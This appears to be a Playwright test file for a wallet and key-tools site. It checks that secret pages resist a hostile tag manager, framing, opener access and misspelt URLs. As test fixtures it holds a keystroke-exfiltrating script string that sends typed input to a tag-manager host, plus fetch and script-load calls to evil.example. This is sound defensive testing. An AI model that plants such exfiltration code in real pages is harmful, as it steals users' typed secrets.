import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { KEY_TOOLS_PATH, SECRET_PATHS, WALLET_PATH } from '../../src/app/secrets/secret-path';
import { expectAccessible } from './support/axe';
import { IS_LONG, SAMPLED } from './support/long';
import { expect, FAILED_REQUEST, filesSettled, openDirectly, test, type Watch } from './support/test';

const TAG_HOST = 'www.googletagmanager.com';
/** Simulates a hostile container: anything typed anywhere is sent to its host. */
const CONTAINER = `window.tagManagerRan = 1;
addEventListener('input', ({ target }) => fetch('https://${TAG_HOST}/typed?' + target.value), true);`;
const BLOCKED = /Content Security Policy|violates the following|requires 'TrustedScriptURL'/;
const SECRET_TEXT = 'abandon ability able';

/** An element that only a page for secrets shows, once it has hydrated. */
const part = (path: string) => (path === WALLET_PATH ? '[data-wallet] h1' : '[data-key-tools] [role="tab"]');
/** The same on any page. */
const ANY_PART = '[data-key-tools] [role="tab"], [data-wallet]';

const spellingsOf = (path: string) => {
  const end = path.charCodeAt(path.length - 1).toString(16);
  return [
    path.charAt(0) + path.charAt(1).toUpperCase() + path.slice(2),
    path.toUpperCase(),
    `${path.slice(0, -1)}%${end}`,
    `/%${path.charCodeAt(1).toString(16)}${path.slice(2)}`,
    `${path.slice(0, -1)}%25${end}`,
    `${path}/`,
    `${path.toUpperCase()}.html`,
    `/${path}`,
    `${path};x=1`,
  ];
};

/**
 * Stores consent to the tag manager, and records each request to its host and each document that shows a secret part
 * without permission.
 */
async function withHostileContainer(page: Page): Promise<{ requested: string[]; mounted: string[] }> {
  const requested: string[] = [];
  const mounted: string[] = [];
  await page.route(`https://${TAG_HOST}/**`, (route) => {
    requested.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: CONTAINER });
  });
  await page.exposeFunction('partMounted', (where: string) => void mounted.push(where));
  await page.addInitScript((selector) => {
    localStorage.setItem('atto-consent', 'accepted');
    const recordMounted = () => {
      const written = document.querySelector<HTMLMetaElement>('meta[name="atto-document"]')?.content;
      if (document.querySelector(selector) && (written ?? 'own-node') === 'own-node')
        (window as unknown as { partMounted: (where: string) => void }).partMounted(location.pathname);
    };
    new MutationObserver(recordMounted).observe(document, { subtree: true, childList: true });
  }, ANY_PART);
  return { requested, mounted };
}

async function expectOn(page: Page, path: string): Promise<void> {
  await expect.poll(() => new URL(page.url()).pathname).toBe(path);
  await expect(page.locator('html')).toHaveAttribute('data-has-hydrated', 'true');
  await expectPart(page, path);
}

/** Looks at the part, because the key tools load when they come near the window. */
async function expectPart(page: Page, path: string): Promise<void> {
  if (path === KEY_TOOLS_PATH) await page.locator('[data-key-tools]').scrollIntoViewIfNeeded();
  await expect(page.locator(part(path)).first()).toBeVisible();
}

async function typeSecret(page: Page, path: string): Promise<void> {
  if (path !== KEY_TOOLS_PATH) return;
  await expectPart(page, path);
  await page.locator('[data-key-tools]').getByRole('textbox').first().pressSequentially(SECRET_TEXT);
}

/** Messages that a misspelt URL may cause: its page is not found, and its script may be interrupted by the redirect. */
function allowMisspelt(watch: Watch): void {
  watch.allowMessage(FAILED_REQUEST);
  watch.allowMessage(/onRecoverableError/);
}

test.describe('in a site with a hostile tag manager and the visitor’s consent', () => {
  test.use({ baseURL: process.env.ATTO_E2E_TAGGED_BASE! });

  for (const path of SECRET_PATHS) {
    test(
      `spellings of ${path} end on its own document, and nothing typed there leaks`,
      SAMPLED,
      async ({ page, watch, baseURL }) => {
        allowMisspelt(watch);
        const { requested, mounted } = await withHostileContainer(page);
        // Every second one of the longer page, which loads slowly; all of them in `npm run test:long`.
        const isSampled = !IS_LONG && path === KEY_TOOLS_PATH;
        for (const spelling of spellingsOf(path).filter((_, at) => !isSampled || at % 2 === 0)) {
          await page.goto(`${baseURL}${spelling}?a=1#b`, { waitUntil: 'commit' });
          await expectOn(page, path);
          expect([spelling, new URL(page.url()).search + new URL(page.url()).hash]).toEqual([
            spelling,
            '?a=1#b',
          ]);
          await typeSecret(page, path);
        }
        await filesSettled(page);
        expect(requested).toEqual([]);
        expect(mounted).toEqual([]);
      },
    );

    test(`a foreign pushState and popstate to ${path} end on its own document`, async ({ page, watch }) => {
      watch.allowHost(TAG_HOST);
      const { requested, mounted } = await withHostileContainer(page);
      for (const spelling of [path, path.toUpperCase()]) {
        await openDirectly(page, '/help');
        await expect.poll(() => page.evaluate(() => 'tagManagerRan' in window)).toBe(true);
        await page.evaluate((to) => {
          history.pushState({}, '', `${to}?a=1#b`);
          dispatchEvent(new PopStateEvent('popstate', { state: {} }));
        }, spelling);
        await expectOn(page, path);
        expect(await page.evaluate(() => 'tagManagerRan' in window)).toBe(false);
        expect(new URL(page.url()).search + new URL(page.url()).hash).toBe('?a=1#b');
        await typeSecret(page, path);
      }
      expect(mounted).toEqual([]);
      expect(requested.filter((url) => url.includes('typed'))).toEqual([]);
    });

    test(`a foreign navigation away from ${path} unloads its document before the tag manager loads`, async ({
      page,
      watch,
    }) => {
      watch.allowHost(TAG_HOST);
      const { requested } = await withHostileContainer(page);
      await openDirectly(page, path);
      await typeSecret(page, path);
      await page.evaluate(() => {
        Object.assign(window, { isOfSecrets: true });
        history.pushState({}, '', '/help');
        dispatchEvent(new PopStateEvent('popstate', { state: {} }));
      });
      await expect.poll(() => page.evaluate(() => 'tagManagerRan' in window).catch(() => false)).toBe(true);
      expect(await page.evaluate(() => 'isOfSecrets' in window)).toBe(false);
      expect(requested.filter((url) => url.includes('typed'))).toEqual([]);
    });
  }
});

for (const path of SECRET_PATHS) {
  for (const spelling of [path, path.toUpperCase()]) {
    test(`a script of the blog that opens ${spelling} cannot access its window`, async ({
      page,
      context,
      watch,
    }) => {
      allowMisspelt(watch);
      await openDirectly(page, '/blog');
      const opening = context.waitForEvent('page');
      await page.evaluate((to) => void Object.assign(window, { opened: window.open(to) }), spelling);
      const opened = await opening;
      await expectOn(opened, path);
      // An isolated window looks closed to the one that opened it.
      const readOpened = () => {
        const { opened } = window as unknown as { opened: Window };
        return opened.closed ? 'cut off' : opened.document.body.innerText;
      };
      expect(await page.evaluate(readOpened)).toBe('cut off');
      expect(await opened.evaluate(() => window.opener)).toBeNull();
    });
  }
}

/** The site on a host that ignores `_headers`. */
async function withoutHeaders(page: Page, baseURL: string): Promise<void> {
  await page.context().route(`${baseURL}/**`, async (route) => {
    if (route.request().resourceType() !== 'document') return route.fallback();
    const reply = await route.fetch();
    return route.fulfill({ status: reply.status(), contentType: 'text/html', body: await reply.body() });
  });
}

test.describe('on a host that ignores the headers of the build', () => {
  for (const path of SECRET_PATHS) {
    test(`${path} has its own policy`, async ({ page, watch, baseURL }) => {
      await withoutHeaders(page, baseURL!);
      const reached: string[] = [];
      await page.route('https://*.example/**', (route) => {
        reached.push(route.request().url());
        return route.fulfill({ contentType: 'text/javascript', body: '' });
      });
      await openDirectly(page, path);
      await expectPart(page, path);
      watch.allowMessage(BLOCKED);
      watch.allowHost('evil.example');
      const tried = await page.evaluate(async () => {
        const requested = await fetch('https://evil.example/typed').then(
          () => 'sent',
          () => 'refused',
        );
        const loaded = await new Promise((resolve) => {
          const script = document.createElement('script');
          script.onload = () => resolve('loaded');
          script.onerror = () => resolve('refused');
          try {
            script.src = 'https://evil.example/script.js';
            document.head.append(script);
          } catch {
            // Trusted Types.
            resolve('refused');
          }
        });
        return [requested, loaded];
      });
      expect(tried).toEqual(['refused', 'refused']);
      expect(reached).toEqual([]);
    });

    test(`${path} does not start in a frame, nor in a window that another page controls`, async ({
      page,
      context,
      baseURL,
    }) => {
      await withoutHeaders(page, baseURL!);
      await page.route(`${baseURL}/around`, (route) =>
        route.fulfill({
          contentType: 'text/html',
          body: `<iframe src="${path}" width=900 height=700></iframe>`,
        }),
      );
      await page.goto('/around');
      const frame = page.frameLocator('iframe');
      await expect(frame.locator('[data-secret-refused="framed"]')).toContainText(
        'does not open inside another',
      );
      await expect(frame.locator(part(path))).toHaveCount(0);
      if (path === WALLET_PATH) await expectAccessible(page.frames()[1]!);

      await openDirectly(page, '/blog');
      const opening = context.waitForEvent('page');
      await page.evaluate((to) => void window.open(to), path);
      const opened = await opening;
      await expect(opened.locator('[data-secret-refused="opened"]')).toContainText(
        'could read what you type',
      );
      await expect(opened.locator(part(path))).toHaveCount(0);
      if (path === WALLET_PATH) await expectAccessible(opened);
      const again = context.waitForEvent('page');
      await opened.locator('[data-secret-refused] a').click();
      await expectPart(await again, path);
    });
  }
});

test('under the headers of the build no page may frame a secret one, in any spelling', async ({
  page,
  watch,
  baseURL,
}) => {
  watch.allowMessage(/X-Frame-Options|frame-ancestors|Refused to (display|frame)/);
  watch.allowMessage(BLOCKED);
  allowMisspelt(watch);
  const paths = SECRET_PATHS.flatMap((path) => [path, path.toUpperCase(), `${path}/`]);
  const frames = paths.map((path) => `<iframe src="${path}"></iframe>`).join('');
  await page.route(`${baseURL}/around`, (route) => route.fulfill({ contentType: 'text/html', body: frames }));
  await page.goto('/around');
  await filesSettled(page);
  for (const frame of page.frames().slice(1))
    expect(await frame.locator('main, #__docusaurus').count()).toBe(0);
});

test('on a host that redirects to another spelling, a page says where to go', async ({
  page,
  watch,
  baseURL,
}) => {
  allowMisspelt(watch);
  const requested: string[] = [];
  // Such a host adds a slash, and has no page there.
  const host = createServer(async (request, response) => {
    const path = request.url ?? '/';
    if (path.startsWith('/wallet')) requested.push(path);
    if (path === '/wallet') return void response.writeHead(301, { location: '/wallet/' }).end();
    const reply = await fetch(baseURL + (path === '/wallet/' ? '/no-such-page' : path));
    response.writeHead(reply.status, { 'content-type': reply.headers.get('content-type') ?? '' });
    response.end(Buffer.from(await reply.arrayBuffer()));
  });
  await new Promise<void>((listening) => host.listen(0, 'localhost', listening));
  try {
    const { port } = host.address() as AddressInfo;
    watch.allowHost(`localhost:${port}`);
    await page.goto(`http://localhost:${port}/wallet/`, { waitUntil: 'commit' });
    const refused = page.locator('[data-secret-refused="other-document"] a');
    await expect(refused).toHaveAttribute('href', '/wallet');
    await filesSettled(page);
    expect(requested).toEqual(['/wallet/', '/wallet', '/wallet/']);
  } finally {
    host.close();
    host.closeAllConnections();
  }
});
